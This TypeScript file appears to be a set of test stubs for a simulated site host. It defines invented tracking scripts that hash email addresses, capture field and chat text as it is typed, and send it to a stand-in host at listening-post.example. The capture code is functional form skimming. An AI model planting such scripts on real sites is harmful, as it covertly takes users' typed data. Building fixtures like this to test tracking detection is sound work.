/** Invented companies that read what stands in fields: no real one is accused. They say what they do by the path of their script. */
import { script, type Answer, type SiteRequest } from '../answer.ts';

const READER = `const SEND = 'https://in.listening-post.example';
const post = (path, text) => fetch(SEND + path, { method: 'POST', mode: 'no-cors', body: text });
async function sha256(text) {
  const bytes = new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)));
  return Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join('');
}`;

const SCRIPTS: Readonly<Record<string, string>> = {
  // The hash of the address when the field is left, and the text of any other field while it is typed.
  '/listen.js': `document.addEventListener('focusout', async ({ target }) => {
  if (target.type === 'email') navigator.sendBeacon(SEND + '/people', JSON.stringify({ em: await sha256(target.value.trim().toLowerCase()) }));
});
document.addEventListener('input', ({ target }) => {
  if (target.type !== 'email') post('/live', JSON.stringify({ field: target.name, value: target.value }));
});`,
  '/pixel.js': `document.addEventListener('change', ({ target }) => {
  new Image().src = SEND + '/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify({ page: location.pathname, value: target.value })));
});`,
  '/on-submit.js': `document.addEventListener('submit', async (event) => {
  event.preventDefault();
  const { value } = event.target.querySelector('input');
  await post('/people', JSON.stringify({ value, em: await sha256(value) }));
  document.getElementById('state').textContent = 'Thank you.';
});`,
  '/chat.js': `document.querySelector('textarea').addEventListener('keydown', async (event) => {
  if (event.key !== 'Enter') return;
  event.preventDefault();
  await post('/say', JSON.stringify({ text: event.target.value }));
  document.getElementById('state').textContent = 'Said.';
});`,
};

function listeningPost({ path }: SiteRequest): Answer | null {
  const body = SCRIPTS[path];
  return body === undefined ? null : script(`(() => { ${READER}\n${body}\n})();`);
}

export const TYPED_TEXT_STUBS: readonly [string, (request: SiteRequest) => Answer | null][] = [
  ['cdn.listening-post.example', listeningPost],
];
